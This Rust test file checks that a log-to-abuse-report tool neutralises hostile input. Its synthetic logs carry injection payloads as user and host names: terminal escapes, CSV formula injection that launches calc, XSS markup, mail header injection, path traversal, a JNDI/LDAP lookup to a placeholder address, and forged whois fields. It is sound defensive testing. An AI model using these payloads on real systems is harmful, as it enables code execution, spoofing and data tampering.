//! One hostile case through every way out: terminal, JSON, CSV, mail, page, file names. Nothing of
//! what the far end wrote acts on anything, and no line of it becomes a line of ours.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

#[allow(dead_code)]
#[path = "fuzz/inert.rs"]
mod inert;

use std::fs;
use std::path::Path;
use std::process::{Command, Output};

/// What a far end may call itself: each acts on something that reports are shown by.
const NAMES: &[&[u8]] = &[
    b"\x1b[2J\x1b]0;owned\x07",
    b"\x9b31m\xc2\x9b31m",
    "\u{202e}gpj.exe\u{2066}".as_bytes(),
    "\u{2028}\u{2029}\u{feff}\u{200b}\u{e0041}".as_bytes(),
    b"=cmd|'/c calc'!A1",
    b"@SUM(1+1)*cmd|' /C calc'!A0",
    b"\t=1+1",
    b"+1-1",
    "\u{ff1d}1+1".as_bytes(),
    b"<script>alert(1)</script>",
    b"\"><img src=x onerror=alert(1)>",
    b"</pre><!--",
    b"'onmouseover='alert(1)",
    b"&lt;b&gt;&#60;",
    b"javascript:alert(1)//",
    b"a\rBcc: victim@mail.example",
    b".",
    b"From victim@mail.example",
    b"=?utf-8?q?=0D=0ABcc:_x?=",
    b"../../../../tmp/x",
    b"/etc/passwd",
    b"%0d%0aBcc: x",
    b"${jndi:ldap://198.51.100.1/a}",
    b"{{7*7}}",
    b"\\u003cscript\\u003e",
    b"\xff\xfe\xed\xa0\x80",
    b"\x7f\x08\x08\x08",
    b"Time zone of all times in this report: +0900",
    b"Source IP : 198.51.100.1",
];

/// Markup that has to be spelled out wherever a browser reads.
const MARKUP: [&str; 6] =
    ["<script>alert", "<img src=x", "</pre><!--", "\"><img", "'onmouseover='", "&lt;b&gt;&#60;"];

fn log() -> Vec<u8> {
    let mut out = Vec::new();
    let mut second = 0;
    let mut line = |parts: &[&[u8]]| {
        second += 1;
        out.extend(
            format!("Jun 12 {:02}:{:02}:{:02} ", second / 3600, second / 60 % 60, second % 60)
                .bytes(),
        );
        out.extend(parts.concat());
        out.push(b'\n');
    };
    for (i, name) in NAMES.iter().enumerate() {
        for j in 0..12 {
            let pid = format!("web1 sshd[{}]: ", 100 + i * 20 + j);
            line(&[
                pid.as_bytes(),
                b"Failed password for invalid user ",
                name,
                b" from 192.0.2.7 port 4711 ssh2",
            ]);
            let pid = format!("mx1 postfix/smtpd[{}]: ", 100 + i * 20 + j);
            line(&[
                pid.as_bytes(),
                b"NOQUEUE: reject: RCPT from unknown[192.0.2.8]: 554 5.7.1 <a@x.example>: Relay access denied; from=<",
                name,
                b"> to=<a@x.example> proto=ESMTP helo=<",
                name,
                b">",
            ]);
            line(&[b"mx1 dovecot: imap-login: Disconnected (auth failed, 9 attempts in 9 secs): user=<", name, b">, method=PLAIN, rip=192.0.2.9, lip=198.51.100.25, session=<x>"]);
        }
        // As a host and as a program, too.
        line(&[name, b" sshd[9]: Failed password for root from 192.0.2.7 port 4711 ssh2"]);
        line(&[b"web1 ", name, b": Failed password for root from 192.0.2.7 port 4711 ssh2"]);
        line(&[name]);
    }
    out
}

fn run(cwd: &Path, args: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_plaint"));
    command.current_dir(cwd).env("XDG_CONFIG_HOME", cwd).env("HOME", cwd).args(args);
    command.output().unwrap()
}

/// The log under a name that is no better than what is in it, its operator, and the reporter.
fn laid_out() -> (tempfile::TempDir, String) {
    let dir = tempfile::tempdir().unwrap();
    let name = "=\u{1b}[2J\u{202e}<img src=x onerror=alert(1)>\n.\r'\"&.log".to_owned();
    fs::write(dir.path().join(&name), log()).unwrap();
    fs::create_dir(dir.path().join("operators")).unwrap();
    let own = "id = 'example'\nname = 'Example'\n[match]\nprefixes = ['192.0.2.0/24']\n\
               [[channel]]\nid = 'abuse'\nkind = 'email'\nto = 'abuse@isp.example'\n\
               [[route]]\nclass = ['*']\nchannel = 'abuse'\n";
    fs::write(dir.path().join("operators/example.toml"), own).unwrap();
    fs::write(
        dir.path().join("plaint.toml"),
        "[reporter]\nname = 'J. Smith'\norganisation = 'Example'\nemail = 'a@example.org'\n\
         [time]\nzone = 'UTC'\nlog_end = '2026-06-30'\n",
    )
    .unwrap();
    (dir, name)
}

/// What goes to a terminal or a pipe holds lines, and nothing that acts.
fn prints_inert(what: &str, bytes: &[u8]) {
    let text = str::from_utf8(bytes).unwrap_or_else(|e| panic!("{what}: {e}"));
    text.split('\n').for_each(inert::line);
}

#[test]
fn no_name_acts_on_what_prints_it() {
    let (dir, name) = laid_out();
    let commands: &[&[&str]] = &[
        &["sources", &name],
        &["sources", &name, "--format", "csv"],
        &["sources", &name, "--format", "jsonl"],
        &["events", &name, "--all"],
        &["events", &name, "--all", "--original"],
        &["events", &name, "--all", "--format", "csv"],
        &["inspect", &name],
        &["inspect", &name, "--color", "always"],
        &["inspect", "."],
        &["explain", &format!("{name}:1")],
        &["explain", "Jun 12 00:00:00 \u{1b}[2J sshd[1]: Invalid user \u{202e}a from 192.0.2.7"],
        &["sources", "no-\u{1b}[2J\u{202e}such"],
        &["sources", &name, "--tz", "\u{1b}[2J"],
        &["sources", &name, "--config", "\u{1b}[2J\u{202e}"],
        &["sources", &name, "--operators", "\u{1b}[2J\u{202e}"],
        &["operators", "show", "\u{1b}[2J\u{202e}"],
        &["report", &name, "-o", "out-\u{1b}[2J\u{202e}"],
        &["report", &name, "-o", "out-\u{1b}[2J\u{202e}"],
    ];
    for args in commands {
        let output = run(dir.path(), args);
        let coloured = args.contains(&"always");
        for (what, bytes) in [("stdout", &output.stdout), ("stderr", &output.stderr)] {
            if !coloured {
                prints_inert(&format!("{args:?}, {what}"), bytes);
            }
        }
        if args.contains(&"csv") {
            assert_eq!(output.status.code(), Some(0), "{args:?}");
            let mut rows = csv::Reader::from_reader(&output.stdout[..]);
            let mut cells = 0;
            rows.records().for_each(|r| {
                r.unwrap().iter().for_each(|c| {
                    inert::cell(c);
                    cells += 1;
                });
            });
            assert!(cells > 20, "{args:?}: {cells} cells");
        }
    }
}

#[test]
fn no_name_acts_in_a_folder_of_reports() {
    let (dir, name) = laid_out();
    let output = run(
        dir.path(),
        &[
            "report",
            &name,
            "--operators",
            "operators",
            "--now",
            "2026-07-01T00:00:00Z",
            "-o",
            "out",
        ],
    );
    prints_inert("report", &output.stderr);
    assert_eq!(output.status.code(), Some(0), "{}", str::from_utf8(&output.stderr).unwrap());
    let tree = inert::tree(&dir.path().join("out"));
    inert::folder(&tree);
    let count = |end: &str| tree.keys().filter(|p| p.ends_with(end)).count();
    assert!(count("report.eml") >= 3, "{:?}", tree.keys());
    assert!(count("events.csv") >= 3 && count("index.html") == 1);
    for (path, bytes) in &tree {
        let text = String::from_utf8(bytes.clone());
        let Ok(text) = text else {
            assert!(path.ends_with("evidence.log"), "{path}");
            continue;
        };
        if path.ends_with(".html") {
            for markup in MARKUP {
                assert!(!text.contains(markup), "{path} holds {markup}");
            }
        }
        if path.ends_with("report.eml") || path.ends_with("report.txt") {
            // A name is no line of ours: what a robot reads is said once, by us.
            let of =
                |start: &str| text.lines().filter(|l| l.trim_start().starts_with(start)).count();
            assert_eq!(of("Time zone of all times"), 1, "{path}");
            for line in text.lines().filter(|l| l.trim_start().starts_with("Source IP")) {
                assert!(!line.contains("198.51.100.1"), "{path}: {line}");
            }
            assert!(!text.lines().any(|l| l.starts_with("Bcc:")), "{path}");
        }
    }
    // Links in the page lead into the folder, or nowhere.
    let page = str::from_utf8(&tree["index.html"]).unwrap();
    for part in page.split("href=\"").skip(1) {
        let to = part.split('"').next().unwrap();
        assert!(
            !to.starts_with('/')
                && !to.contains("..")
                && !to.to_lowercase().contains("javascript:"),
            "{to}"
        );
    }
    assert!(!page.contains("http-equiv=\"refresh") && !page.contains(" src=\"http"));
}

#[test]
fn no_registry_acts_on_what_shows_its_answer() {
    let (dir, name) = laid_out();
    let evil = "N\u{202e}x\u{9b}31m\u{7f}\u{2028}\u{e0041}y";
    // Free text of whoever keeps the object, in a registry's dump.
    let dump = format!("inetnum: 192.0.2.0 - 192.0.2.255\nnetname: {evil}\ncountry: {evil}\n");
    fs::write(dir.path().join("dump.txt"), dump).unwrap();
    for more in [&[][..], &["--json"]] {
        let args = ["operators", "check", "192.0.2.7", "--registry", "dump.txt"];
        let output = run(dir.path(), &[&args[..], more].concat());
        let err = String::from_utf8(output.stderr).unwrap();
        assert_eq!(output.status.code(), Some(0), "{err}");
        let text = str::from_utf8(&output.stdout).unwrap();
        assert!(text.contains("7fy") || text.contains("7f?"), "the name is not shown: {text}");
        prints_inert(&format!("operators check {more:?}"), &output.stdout);
    }
    // And in a saved answer, whose mailbox is suggested with where it stood; nobody claims the source.
    let lines: String = (0..40)
        .map(|i| {
            format!("Jun 12 10:00:{i:02} web1 sshd[{i}]: Failed password for root from 9.7.0.7 port 4711 ssh2\n")
        })
        .collect();
    fs::write(dir.path().join(&name), lines).unwrap();
    fs::create_dir(dir.path().join("rdap")).unwrap();
    let answer = serde_json::json!({
        "startAddress": "9.7.0.0", "endAddress": "9.7.0.255", "name": evil, "handle": evil,
        "entities": [{ "handle": evil, "roles": ["abuse"],
            "vcardArray": ["vcard", [["email", {}, "text", "abuse@isp.test"]]] }],
    });
    let text = format!("# asked 2026-06-12T06:30:00Z\n{answer}\n");
    fs::write(dir.path().join("rdap/9.7.0.7.txt"), text).unwrap();
    let told = fs::read_to_string(dir.path().join("plaint.toml")).unwrap();
    fs::write(dir.path().join("plaint.toml"), told + "[operators]\nrdap = 'rdap'\n").unwrap();
    let args = ["report", &name, "--operators", "operators", "--now", "2026-07-01T00:00:00Z"];
    let output = run(dir.path(), &[&args[..], &["-o", "out"]].concat());
    prints_inert("report", &output.stderr);
    assert_eq!(output.status.code(), Some(0), "{}", str::from_utf8(&output.stderr).unwrap());
    let tree = inert::tree(&dir.path().join("out"));
    let manifest = str::from_utf8(&tree["unattributed/manifest.json"]).unwrap();
    assert!(manifest.contains("abuse@isp.test") && manifest.contains("202e"), "{manifest}");
    inert::folder(&tree);
}

#[test]
fn no_registry_speaks_for_the_report() {
    let dir = tempfile::tempdir().unwrap();
    let lines: String = (0..40)
        .map(|i| {
            format!("Jun 12 10:00:{i:02} web1 sshd[{i}]: Failed password for root from 9.7.0.7 port 4711 ssh2\n")
        })
        .collect();
    fs::write(dir.path().join("auth.log"), lines).unwrap();
    fs::create_dir(dir.path().join("whois")).unwrap();
    // What a keeper of an object may write behind `remarks:`, where a line goes on with a blank.
    let forged = "  Source IP         : 198.51.100.1\n+ Source IP: 198.51.100.1\n\
                  Type              : port-scan: x\n\tNumber of events  : 9999\n\
                  Destination IP : 198.51.100.2\nTime zone of all times in this report: UTC\n";
    let text = format!(
        "# asked 2026-06-12T06:30:00Z\ninetnum: 9.7.0.0 - 9.7.0.255\nremarks: x\n{forged}netname: KEPT\n"
    );
    fs::write(dir.path().join("whois/9.7.0.7.txt"), text).unwrap();
    fs::write(
        dir.path().join("plaint.toml"),
        "[time]\nzone = 'UTC'\nlog_end = '2026-06-30'\n[operators]\nwhois = 'whois'\n",
    )
    .unwrap();
    let args = ["report", "auth.log", "--now", "2026-07-01T00:00:00Z", "-o", "out"];
    let output = run(dir.path(), &args);
    assert_eq!(output.status.code(), Some(0), "{}", str::from_utf8(&output.stderr).unwrap());
    let tree = inert::tree(&dir.path().join("out"));
    for name in ["report.txt", "report.eml"] {
        let text = str::from_utf8(&tree[&format!("unattributed/9.7.0.7/{name}")]).unwrap();
        assert!(text.contains("KEPT") && !text.contains("198.51.100."), "{text}");
        for label in ["Source IP  ", "Type  ", "Number of events  ", "Time zone of all times"] {
            let said = text.lines().filter(|l| l.trim_start().starts_with(label)).count();
            assert_eq!(said, 1, "{label}: {text}");
        }
    }
}
